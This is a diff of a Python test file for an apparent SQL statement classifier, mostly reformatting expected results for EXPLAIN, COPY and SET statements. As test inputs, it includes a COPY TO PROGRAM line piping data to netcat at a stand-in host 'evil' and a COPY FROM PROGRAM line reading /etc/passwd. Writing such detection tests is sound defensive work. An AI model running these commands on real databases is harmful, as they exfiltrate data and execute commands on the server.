@@ -104,8 +104,13 @@ def test_nested_entries_are_marked_and_parents_list_inner_tables():
 def test_explain_flags():
     plain = classify("EXPLAIN DELETE FROM orders")
     assert plain == [
-        {"type": "explain", "tag": "ExplainStmt", "analyze": False, "tables": ["orders"],
-         "functions": []}
+        {
+            "type": "explain",
+            "tag": "ExplainStmt",
+            "analyze": False,
+            "tables": ["orders"],
+            "functions": [],
+        }
     ]
     assert one("EXPLAIN ANALYZE SELECT 1")["analyze"] is True
     assert one("EXPLAIN (ANALYZE on) SELECT 1")["analyze"] is True
@@ -119,9 +124,14 @@ def test_where_flags():
 
 
 def test_copy_flags():
-    assert one("COPY t TO PROGRAM 'nc evil 1'") | {"tables": []} == {
-        "type": "copy", "tag": "CopyStmt", "direction": "to", "program": True, "stdio": False,
-        "tables": [], "functions": [],
+    assert one("COPY t TO PROGRAM 'nc evil 1'") == {
+        "type": "copy",
+        "tag": "CopyStmt",
+        "direction": "to",
+        "program": True,
+        "stdio": False,
+        "tables": ["t"],
+        "functions": [],
     }
     from_program = one("COPY t FROM PROGRAM 'cat /etc/passwd'")
     assert (from_program["direction"], from_program["program"]) == ("from", True)
@@ -142,7 +152,6 @@ def test_drop_objects():
 def test_settings():
     assert one("SET ROLE postgres")["setting"] == "role"
     assert one("SET SESSION AUTHORIZATION bob")["setting"] == "session_authorization"
-    assert one("RESET ROLE") | {} == one("RESET ROLE")
     assert one("RESET ROLE")["reset"] is True
     assert one("SET LOCAL statement_timeout = 5")["setting"] == "statement_timeout"
     assert one("SHOW ALL")["setting"] == "all"
